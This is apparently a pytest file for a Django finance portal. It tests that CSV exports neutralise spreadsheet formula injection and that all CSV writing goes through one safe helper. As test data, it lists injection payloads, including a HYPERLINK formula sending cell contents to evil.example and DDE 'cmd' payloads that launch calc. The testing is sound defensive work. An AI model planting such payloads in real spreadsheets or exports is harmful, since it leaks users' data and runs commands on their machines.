"""Finding 7 of issue 12: CSV exports never hand a spreadsheet a formula (CSV injection, OWASP).

Before: a client named `=HYPERLINK(...)` went into the AR-aging and dashboard CSVs as it was, and
Excel ran it. Now every CSV the portal writes goes through `kernel.csv_export.csv_writer`: a cell
starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`; plain numbers stay numbers.
"""
from __future__ import annotations

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from kernel.csv_export import FORMULA_TRIGGERS, csv_writer, neutralise_cell
from tests.disputes.collections.factories import TODAY, issued_invoice
from tests.factories import ClientFactory, ContractFactory, LegalEntityFactory, UserFactory
from tests.insights.kpis.factories import issued

pytestmark = pytest.mark.control("csv-injection")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_as_text(payload):
    out = io.StringIO()
    csv_writer(out).writerow([payload, "plain", "-120.50", Decimal("-5.00"), 3, None])
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + payload, "plain", "-120.50", "-5.00", "3", ""]


@pytest.mark.parametrize(
    ("value", "written"),
    [("-", "'-"), ("+", "'+"), ("=", "'="), ("-1e5", "'-1e5"), ("-1,5", "'-1,5"), ("+49 40 1234", "'+49 40 1234"),
     ("1-2", "1-2"), ("a=b", "a=b"), ("-0.5", "-0.5"), ("+7", "+7"), ("", "")],
)
def test_only_plain_numbers_keep_a_leading_sign(value, written):
    assert neutralise_cell(value) == written


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell


@pytest.mark.django_db
def test_the_aging_csv_neutralises_client_names_and_codes(client):
    evil = ClientFactory(code="@EVIL", legal_name=PAYLOADS[0])
    issued_invoice(client=evil, total="100.00", days_late=45)
    client.force_login(UserFactory(groups=["collections"]))

    response = client.get(reverse("disputes:aging"), {"as_of": TODAY.isoformat(), "format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    _no_formula(rows)
    (row,) = [r for r in rows if r[2] == "'@EVIL"]
    assert row[3] == "'" + PAYLOADS[0]


@pytest.mark.django_db
def test_the_dashboard_drilldown_csv_neutralises_client_names(client):
    contract = ContractFactory(entity=LegalEntityFactory(code="DE01"),
                               client=ClientFactory(code="=CODE", legal_name=PAYLOADS[3]))
    issued(contract=contract, issue_date=date(2025, 2, 3), period_end=date(2025, 1, 31), total="1000.00")
    client.force_login(UserFactory(groups=["finance_analyst"]))

    response = client.get(reverse("insights:drilldown"), {
        "period_start": "2025-01-01", "period_end": "2025-06-30", "metric": "days_to_invoice", "format": "csv"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert len(rows) == 2
    _no_formula(rows)
    assert any(cell.startswith("'") and ("=CODE" in cell or PAYLOADS[3] in cell) for cell in rows[1]), rows[1]


def test_every_csv_writer_of_the_portal_is_the_safe_one():
    """No module of the apps calls `csv.writer`/`csv.DictWriter` itself: all go through `csv_writer`."""
    offenders = []
    # The project's own packages: not tests, benchmarks or assets, nor hidden folders (virtualenvs such as
    # .venv and .tryton-venv hold other projects' code).
    tops = [p for p in ROOT.iterdir() if p.is_dir() and not p.name.startswith(".")]
    tops = [p for p in tops if p.name not in {"tests", "bench", "static", "var", "node_modules"}]
    for path in (path for top in sorted(tops) for path in top.rglob("*.py")):
        parts = path.relative_to(ROOT).parts
        if "migrations" in parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv"
                    and node.attr in {"writer", "DictWriter"}):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders and all(o.startswith("kernel/csv_export.py:") for o in offenders), offenders
